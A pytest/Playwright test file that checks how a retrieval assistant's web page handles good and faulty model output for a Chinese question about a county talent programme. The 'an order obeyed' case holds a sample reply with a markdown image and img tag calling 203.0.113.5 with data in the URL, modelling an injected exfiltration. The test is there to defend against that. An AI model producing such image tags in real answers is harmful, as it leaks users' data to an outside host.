"""What a person sees of an attached model, good or bad, in a real browser."""

from __future__ import annotations

import socket
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from assistant.service import Assistant
from assistant.writer import ModelWriter
from core.settings import Settings
from core.templates import Templates
from ingest.pipeline import Ingest
from ingest.worker import InProcess
from retriever.library import Library
from tests.fakes import FakeEncoder
from tests.openai_server import Behaviour, CutOff, Hang, OpenAIServer, Refuse, Say, Trickle, openai_server
from tests.ui.conftest import Serve

QUESTION = "长兴县“山花计划”录用了多少名青年人才？"
TEXT = """长兴县实施“山花计划”集聚青年人才

长兴县2023年面向高校毕业生启动“山花计划”。长兴县“山花计划”共有1320人报名，最终录用青年人才86名。
"""
GOOD = "长兴县“山花计划”最终录用青年人才86名。[1]"
FALLBACK = "语言模型没有给出可用的回答"
BEHAVIOURS: dict[str, tuple[Behaviour, str]] = {
    "good": (Say(f"{GOOD}共有1320人报名。[1]"), ""),
    "invented figure": (Say(f"{GOOD}其中博士99名。[1]"), "1句话没有通过核对"),
    "wrong marker": (Say("长兴县“山花计划”最终录用青年人才86名。[7]"), FALLBACK),
    "no markers": (Say("长兴县“山花计划”最终录用青年人才86名。"), FALLBACK),
    "foreign language": (Say("Changxing County hired 99 people.[1]"), FALLBACK),
    "endless": (Trickle("长兴县录用99名。[1]", 0.01), FALLBACK),
    "cut off": (CutOff(GOOD), FALLBACK),
    "429": (Refuse(429), FALLBACK),
    "500": (Refuse(500), FALLBACK),
    "hanging": (Hang("长兴县"), FALLBACK),
    "an order obeyed": (Say(f"{GOOD}![](http://203.0.113.5/p.png?q=99)<img src=//203.0.113.5/99>"), ""),
}


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    root = tmp_path_factory.mktemp("model_on_page")
    (root / "长兴.txt").write_text(TEXT, "utf-8")
    settings, encoder = Settings(data=root / "data"), FakeEncoder()
    with Library.writing(settings, encoder.name) as writing:
        Ingest(writing, encoder, InProcess()).run([root / "长兴.txt"])
    with Library.reading(settings, encoder.name) as reading:
        yield reading


@pytest.fixture(scope="module")
def model() -> Iterator[OpenAIServer]:
    with openai_server() as running:
        yield running


def assistant(library: Library, url: str) -> Assistant:
    settings = Settings(chat_url=url, chat_model="m", chat_timeout_s=1.5)
    writer = ModelWriter.from_settings(settings)
    return Assistant(library, FakeEncoder(), Templates.load("answers.toml"), writer=writer)


def ask(page: Page) -> None:
    box = page.locator("#oa-question textarea")
    expect(box).to_be_enabled()
    box.fill(QUESTION)
    box.press("Enter")
    expect(page.get_by_test_id("submit-button")).to_be_visible()
    expect(page.locator(".oa-answer:not(.oa-growing):not(.oa-waiting)")).to_have_count(1, timeout=15000)


@pytest.mark.parametrize("name", BEHAVIOURS)
def test_whatever_a_model_does_a_checked_answer_is_shown(
    page: Page, serve: Serve, library: Library, model: OpenAIServer, name: str
) -> None:
    behaviour, note = BEHAVIOURS[name]
    model.does(behaviour)
    page.goto(serve(lambda: assistant(library, model.url)))
    ask(page)
    answer = page.locator(".oa-answer")
    expect(answer).to_contain_text("86名")
    expect(answer).not_to_contain_text("99")
    expect(answer.locator(".oa-cite").first).to_be_visible()
    assert page.locator(".oa-answer img").count() == 0
    if note:
        expect(page.locator(".oa-note").last).to_contain_text(note)
    else:
        expect(answer).not_to_contain_text(FALLBACK)


def test_a_model_that_cannot_be_reached_is_told(page: Page, serve: Serve, library: Library) -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    page.goto(serve(lambda: assistant(library, f"http://127.0.0.1:{port}/v1")))
    ask(page)
    expect(page.locator(".oa-answer")).to_contain_text("86名")
    expect(page.locator(".oa-note").last).to_contain_text(FALLBACK)
